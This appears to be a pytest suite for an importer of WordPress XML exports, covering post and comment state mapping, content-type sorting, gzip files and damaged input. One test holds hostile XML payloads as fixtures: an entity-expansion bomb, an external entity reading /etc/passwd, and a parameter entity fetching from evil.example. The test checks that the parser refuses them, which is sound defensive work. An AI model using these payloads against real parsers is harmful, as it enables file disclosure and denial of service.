"""Exports of WordPress are read whole, safely, and everything in them is accounted for."""

from __future__ import annotations

import gzip
from contextlib import closing
from typing import Any

import pytest

from addyours.transfer.errors import ImportRefused
from addyours.transfer.incoming import LeftOut, SiteComment, SiteMedia, SitePage, SiteStory
from addyours.transfer.wordpress.reader import WordPress
from tests.transfer.wordpress.exports import HEAD, a_comment, an_item, write


def read(*paths: Any, keep_going: bool = False) -> list[Any]:
    with closing(WordPress(paths, keep_going=keep_going)) as reader:
        reader.survey()
        return list(reader.read())


def only(kind: type, found: list[Any]) -> list[Any]:
    return [one for one in found if isinstance(one, kind)]


def test_a_post_comes_with_its_comments_in_order(tmp_path):
    post = an_item(more=a_comment(1) + a_comment(2, 1))
    found = read(write(tmp_path / "a.xml", post))
    (story,) = only(SiteStory, found)
    assert (story.id, story.state, story.section, story.authors) == (
        "7",
        "published",
        "harbour",
        ("wren",),
    )
    assert story.old_paths == ("/2020/05/post-7/", "/?p=7")
    assert [(one.id, one.parent, one.state) for one in only(SiteComment, found)] == [
        ("1", "", "published"),
        ("2", "1", "published"),
    ]


@pytest.mark.parametrize(
    ("fields", "state"),
    [
        ({"status": "publish"}, "published"),
        ({"status": "private"}, "draft"),
        ({"status": "pending"}, "draft"),
        ({"status": "draft"}, "draft"),
        ({"status": "future"}, "scheduled"),
        ({"status": "something-new"}, "draft"),
        ({"post_password": "fish"}, "draft"),
    ],
)
def test_nothing_private_becomes_public(tmp_path, fields, state):
    (story,) = only(SiteStory, read(write(tmp_path / "a.xml", an_item(**fields))))
    assert story.state == state


@pytest.mark.parametrize(
    ("approved", "kind", "state"),
    [
        ("1", "", "published"),
        ("0", "comment", "pending"),
        ("spam", "comment", "spam"),
        ("trash", "comment", "rejected"),
        ("odd", "comment", "pending"),
        ("post-trashed", "comment", None),
        ("1", "pingback", None),
        ("1", "trackback", None),
        ("1", "note", None),
        ("1", "order_note", None),
    ],
)
def test_comments_keep_their_state_and_others_are_no_comments(tmp_path, approved, kind, state):
    post = an_item(more=a_comment(1, approved=approved, kind=kind))
    found = read(write(tmp_path / "a.xml", post))
    assert [one.state for one in only(SiteComment, found)] == ([state] if state else [])
    assert bool(only(LeftOut, found)) is (state is None)


def test_pages_pictures_menus_and_trash_are_told_apart(tmp_path):
    picture = "<wp:attachment_url>https://old.example/wp-content/uploads/a.jpg</wp:attachment_url>"
    found = read(
        write(
            tmp_path / "a.xml",
            an_item(1, post_type="page"),
            an_item(2, post_type="attachment", status="inherit", more=picture),
            an_item(3, post_type="nav_menu_item"),
            an_item(4, status="trash", more=a_comment(1)),
            an_item(5, post_type="recipe"),
        )
    )
    assert [one.id for one in only(SitePage, found)] == ["1"]
    assert [one.id for one in only(SiteMedia, found)] == ["2"]
    assert [one.id for one in only(LeftOut, found) if one.kind != "category"] == [
        "3",
        "4",
        "1",
        "5",
    ]


def test_a_lead_picture_and_a_gallery_are_found_behind_the_post(tmp_path):
    lead = "<wp:postmeta><wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>9</wp:meta_value></wp:postmeta>"
    picture = "<wp:attachment_url>https://old.example/u/a.jpg</wp:attachment_url>"
    found = read(
        write(
            tmp_path / "a.xml",
            an_item(content='Look.\n\n[gallery ids="9"]', more=lead),
            an_item(9, post_type="attachment", status="inherit", more=picture),
        )
    )
    (story,) = only(SiteStory, found)
    assert story.photo == "https://old.example/u/a.jpg"
    assert [block.kind for block in story.body] == ["paragraph", "photo"]


def test_several_files_and_packed_ones_are_one_site(tmp_path):
    first = write(tmp_path / "a.xml", an_item(1))
    second = tmp_path / "b.xml.gz"
    second.write_bytes(gzip.compress(write(tmp_path / "b.xml", an_item(2)).read_bytes()))
    assert [one.id for one in only(SiteStory, read(first, second))] == ["1", "2"]


def test_a_damaged_file_gives_line_and_byte_and_what_is_whole_where_asked(tmp_path):
    path = write(
        tmp_path / "a.xml",
        an_item(1),
        an_item(2).replace("</wp:post_id>", "</wp:oops>"),
        an_item(3),
    )
    with pytest.raises(ImportRefused, match=r"line \d+, byte \d+"):
        read(path)
    found = read(path, keep_going=True)
    assert [one.id for one in only(SiteStory, found)] == ["1", "3"]
    (damage,) = [one for one in only(LeftOut, found) if one.kind == "damage"]
    assert "Post 2" in damage.reason
    assert path.read_bytes()[: damage.place.byte].count(b"\n") == damage.place.line - 1


def test_a_file_that_ends_too_early_brings_no_half_item(tmp_path):
    path = write(tmp_path / "a.xml", an_item(1), an_item(2)[:-40], tail="")
    assert [one.id for one in only(SiteStory, read(path, keep_going=True))] == ["1"]


def test_signs_that_xml_forbids_are_no_damage(tmp_path):
    path = write(tmp_path / "a.xml", an_item(1, content="a\x0bb"))
    assert len(only(SiteStory, read(path))) == 1


def test_many_comments_of_one_post_come_one_by_one(tmp_path):
    comments = "".join(a_comment(number) for number in range(1, 1203))
    found = read(write(tmp_path / "a.xml", an_item(more=comments)))
    assert [one.id for one in only(SiteComment, found)] == [str(n) for n in range(1, 1203)]


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/d"> %p;]>',
    ],
)
def test_entities_are_refused(tmp_path, head):
    path = write(tmp_path / "a.xml", an_item(), head=HEAD.replace("<rss", head + "<rss"))
    with pytest.raises(ImportRefused):
        read(path)


@pytest.mark.parametrize(
    "data", [b"", b"\x89PNG\r\n", b"{}", b"<rss><channel></channel></rss>", b"\x1f\x8bxx"]
)
def test_other_files_are_refused_in_one_line(tmp_path, data):
    path = tmp_path / "a.xml"
    path.write_bytes(data)
    with pytest.raises(ImportRefused) as refused:
        read(path)
    assert "\n" not in str(refused.value)
